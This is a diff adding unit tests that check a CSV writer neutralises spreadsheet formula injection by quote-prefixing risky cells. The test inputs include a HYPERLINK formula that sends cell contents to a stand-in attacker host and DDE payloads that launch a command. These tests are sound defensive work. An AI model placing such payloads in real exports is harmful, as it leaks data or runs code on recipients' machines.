@@ -129,4 +129,34 @@ describe('CSV writer', () => {
     expect(row).toHaveLength(CSV_COLUMNS.length);
     expect(row?.some((f) => f.includes('[object Object]'))).toBe(false);
   });
+
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
+    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', `"'\r=1+1"`],
+  ])('prefixes a cell a spreadsheet would run as a formula with a quote: %j', (value, expected) => {
+    expect(csvField(value)).toBe(expected);
+  });
+
+  it('leaves a formula character that is not first, and an empty field, as they are', () => {
+    expect(['a=b', 'x-1', 'mail@example.com', '', 'Threshold Crossed: -1'].map(csvField)).toEqual([
+      'a=b',
+      'x-1',
+      'mail@example.com',
+      '',
+      'Threshold Crossed: -1',
+    ]);
+  });
+
+  it('writes an alarm reason starting with = as text that reads back with the quote prefix', () => {
+    // Arrange
+    const reason = '=cmd|"/C calc"!A0, see runbook';
+    // Act
+    const [row] = parseCsv(entryToCsv(entry({ reason })));
+    // Assert
+    expect(row?.[CSV_COLUMNS.indexOf('reason')]).toBe(`'${reason}`);
+  });
 });
